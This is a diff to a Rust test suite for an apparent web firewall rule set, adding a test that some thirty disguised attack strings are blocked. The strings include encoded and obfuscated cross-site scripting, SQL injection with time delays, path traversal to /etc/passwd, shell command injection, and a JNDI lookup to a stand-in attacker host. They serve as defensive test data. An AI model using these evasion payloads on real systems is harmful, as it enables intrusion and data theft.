@@ -39,12 +39,12 @@ fn compile(mode: Mode) -> Arc<RuleSet> {
     }
 }
 
-fn blocking() -> &'static Arc<RuleSet> {
+pub(crate) fn blocking() -> &'static Arc<RuleSet> {
     static SET: OnceLock<Arc<RuleSet>> = OnceLock::new();
     SET.get_or_init(|| compile(Mode::Block))
 }
 
-const BROWSER: &[(&str, &str)] = &[
+pub(crate) const BROWSER: &[(&str, &str)] = &[
     ("Host", "demo.apps.localhost:8443"),
     ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
     ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
@@ -93,6 +93,47 @@ fn plain_attacks_are_refused() {
         run(blocking(), "POST", "/api", &json, br#"{"q":"1' UNION SELECT user, password FROM users--"}"#).0,
         Verdict::Pass
     );
+}
+
+#[test]
+fn disguised_attacks_are_refused() {
+    for target in [
+        // Encoded twice, as %u, in full width, longer than need be, with NUL.
+        "/?q=%253Cscript%253Ealert(1)%253C/script%253E",
+        "/?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
+        "/?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e",
+        "/?q=%ef%bc%9cscript%ef%bc%9ealert(1)%ef%bc%9c/script%ef%bc%9e",
+        "/?q=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be",
+        "/?q=<scr%00ipt>alert(1)</scr%00ipt>",
+        // As entities, in JavaScript's and CSS's escapes.
+        "/?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
+        "/?q=%26%23x3c;script%26%23x3e;alert(1)",
+        "/?q=%5Cu003cscript%5Cu003ealert(1)",
+        "/?q=<img%20src=x%20onerror%0d=alert(1)>",
+        "/?q=<svg/onload%09=alert(1)>",
+        "/?q=<a%20href=jav%26%23x09;ascript:alert(1)>x</a>",
+        // SQL with comments, letter case, odd white space, no white space.
+        "/?id=1'/**/UnIoN/**/SeLeCt/**/password/**/FROM/**/users--",
+        "/?id=1'%0bunion%0cselect%a0password%09from%0ausers--",
+        "/?id=1'/*!50000union*/select(password)from(users)--",
+        "/?id=1'||(select(1)from(users))||'",
+        "/?id=-1'%20and%20'1'%3d'1",
+        "/?id=1%20and%20sleep(5)",
+        "/?id=1;waitfor%20delay%20'0:0:5'--",
+        // Paths and shells.
+        "/?f=..%252f..%252f..%252fetc%252fpasswd",
+        "/?f=..%c0%af..%c0%afetc%c0%afpasswd",
+        "/?f=..%5c..%5cwindows%5cwin.ini",
+        "/?f=/etc/./passwd",
+        "/?f=/etc//passwd",
+        "/?c=;c'a't%20/etc/passwd",
+        "/?c=;ca%5ct%20/etc/passwd",
+        "/?c=%60id%60;cat%20/etc/passwd",
+        "/?x=%24%7B%24%7Blower:j%7Dndi:ldap://evil.example/a%7D",
+    ] {
+        let (verdict, ids) = get(blocking(), target, BROWSER);
+        assert_ne!(verdict, Verdict::Pass, "{target} passed; matched {ids:?}");
+    }
 }
 
 #[test]
